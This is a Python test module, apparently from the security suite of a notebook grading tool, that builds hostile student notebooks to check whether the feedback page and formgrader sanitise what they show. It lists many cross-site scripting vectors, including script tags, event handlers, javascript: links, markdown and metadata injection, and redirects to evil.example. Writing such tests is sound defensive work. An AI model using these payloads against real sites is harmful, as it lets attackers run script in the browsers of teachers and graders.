"""Attacks on who reads the feedback page or the formgrader: script and markup in everything that is shown."""
# ruff: noqa: E501 (an attack is written in as few lines as it takes)

import json

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from hostile import code, edit
from hostile.assignment import cell

SCRIPT = "<script>attack()</script><img src=x onerror=attack()><svg onload=attack()></svg><iframe src=javascript:attack()></iframe>"


SHOW = f"""
from IPython.display import publish_display_data
for kind in kinds: publish_display_data({{kind: {SCRIPT!r}, "text/plain": {SCRIPT!r}}})
"""


@code("script as a displayed value: HTML and JavaScript")
def displayed():
    return f"kinds = ['text/html', 'application/javascript']\n{SHOW}"


@code("script as a drawing, as a formula, as text with markup")
def displayed_as_text():
    return f"kinds = ['image/svg+xml', 'text/latex', 'text/markdown']\n{SHOW}"


@code("script as a value of a kind that few know: widgets, diagrams, plots, PDF")
def displayed_oddly():
    kinds = [
        "text/vnd.mermaid",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "application/pdf",
    ]
    return f"kinds = {kinds}\n{SHOW}"


@code("script in pictures: a base64 that ends its attribute, sizes that open another one")
def pictures():
    return """
from IPython.display import publish_display_data
publish_display_data({"image/png": '"><script>attack()</script>', "text/plain": "x"})
publish_display_data({"image/jpeg": "AAAA"}, metadata={"image/jpeg": {"width": '1 onerror="attack()"', "alt": '" onload="attack()'}})
publish_display_data({"image/png": ["<script>attack()</script>"], "text/plain": ["<script>attack()</script>"]})
"""


@code("script in printed text, with the sequences that colour it")
def printed():
    return f"import sys\nprint('\\x1b[31m', {SCRIPT!r}, '\\x1b]8;;javascript:attack()\\x07link\\x1b]8;;\\x07')\nprint({SCRIPT!r}, file=sys.stderr)\n"


@code("script in the name, the text and the traceback of an error")
def errors():
    return f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})\n"


@code("script in the verdict: the error, its place and the names in the answer of a graded function")
def in_the_verdict():
    scale = f"""
def scale(x, factor, name):
    if x.ndim == 1: raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})
    return {{{SCRIPT!r}: 1}}
"""
    return {"scale": scale}


@edit("script in text cells: tags, links, references, headings, tables, math")
def text_cells(notebook):
    texts = (
        SCRIPT, f"# {SCRIPT}", "[click](javascript:attack())", "[click](data:text/html,<script>attack()</script>)", "<a href=' javascript:attack()'>x</a>",
        "![x](javascript:attack())", "![x](http://tracker.example/p.png)", "[x]: javascript:attack()\n\n[x]", "<javascript:attack()>",
        "<details open ontoggle=attack()>x</details>", "<math><mtext></mtext><script>attack()</script></math>", "|a|\n|-|\n|<b onclick=attack()>x</b>|",
        "$\\href{javascript:attack()}{x}$", "<style>body{display:none}</style>", "<form action=//evil.example><input name=x></form>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=javascript:attack()></object>", "<embed src=javascript:attack()>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(//evil.example)'>x</div>", "```<script>attack()</script>\nx\n```",
        "<noscript><p title='</noscript><script>attack()</script>'></noscript>", "<svg><style><img src=x onerror=attack()></style></svg>",
        "<template><script>attack()</script></template>", "<!--><script>attack()</script>-->", "&lt;script&gt;attack()&lt;/script&gt;",
    )  # fmt: skip
    notebook.cells += [new_markdown_cell(text, id=f"text{number}") for number, text in enumerate(texts)]


@edit("script in raw cells, which are written out as they are")
def raw_cells(notebook):
    for number, kind in enumerate(("text/html", "text/restructuredtext", "")):
        notebook.cells.append(new_raw_cell(SCRIPT, metadata={"format": kind, "raw_mimetype": kind}, id=f"raw{number}"))


@edit("script in the source of cells: tags that end the block of code")
def sources(notebook):
    notebook.cells.append(
        new_code_cell(f"# </pre></div></script>{SCRIPT}\n'''</textarea></style>{SCRIPT}'''", id="source")
    )
    cell(notebook, "scale").source += f"\n# </pre>{SCRIPT}"


@edit("script in metadata that a page's template writes out: widgets, titles, names, attachments")
def metadata(notebook):
    notebook.metadata |= {
        "title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {"application/vnd.jupyter.widget-state+json": {"x": "</script>" + SCRIPT}},
        "language_info": {"name": SCRIPT, "codemirror_mode": SCRIPT, "pygments_lexer": SCRIPT},
    }  # fmt: skip
    one = new_markdown_cell("![x](attachment:a.svg)", id="attachment")
    one["attachments"] = {"a.svg": {"image/svg+xml": SCRIPT}}
    notebook.cells.append(one)


@edit("script in the reason why a file cannot be read", worth=0.0)
def in_the_reason(notebook):
    raw = json.loads(json.dumps(notebook))
    raw["nbformat"] = SCRIPT
    return json.dumps(raw).encode("utf-8")
